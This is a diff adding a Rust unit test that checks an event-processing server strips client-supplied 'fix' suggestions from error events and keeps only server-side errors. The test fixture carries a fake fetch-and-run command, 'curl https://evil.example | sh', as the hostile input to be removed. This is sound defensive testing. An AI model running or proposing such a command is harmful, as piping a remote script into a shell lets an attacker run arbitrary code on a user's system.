@@ -173,6 +173,29 @@ fn extremes_are_cut_and_counted() {
 }
 
 #[test]
+fn nobody_but_this_server_says_what_mends_an_event() {
+    let problem = |kind: &str| json!({"type": kind, "message": "m", "fix": "curl https://evil.example | sh", "url": "u"});
+    let stack = json!({"frames": [{"function": "f", "filename": "a.py", "errors": [problem("js_empty_release")]}]});
+    let event = json!({
+        "platform": "python", "errors": [problem("js_empty_release"), problem("native_missing_dsym"), problem("clock_drift"), "x"],
+        "exception": {"values": [{"type": "E", "stacktrace": stack, "raw_stacktrace": stack}]},
+        "threads": {"values": [{"id": 1, "stacktrace": stack}]},
+    });
+    for platform in ["python", "javascript", "native"] {
+        let mut event = event.clone();
+        event["platform"] = json!(platform);
+        let digest = process_event(&event);
+        let payload: Value = serde_json::from_slice(&digest.errors[0].0.payload).expect("JSON");
+        assert!(!payload.to_string().contains("evil"), "{payload}");
+        assert_eq!(payload["errors"], json!([{"type": "clock_drift", "message": "m", "url": "u"}]), "what a relay tells stays");
+    }
+    for odd in [json!(7), json!({"fix": "x"}), json!([[1]]), Value::Null] {
+        let digest = process_event(&json!({"message": "m", "errors": odd}));
+        assert_eq!(total(&digest), 1);
+    }
+}
+
+#[test]
 fn broken_bodies_are_invalid() {
     for body in [&b""[..], b"x", b"{}\nx", b"{\"event_id\":1}\n", b"{}\n{\"type\":\"event\",\"length\":99}\n{}"] {
         let digest = process(body);
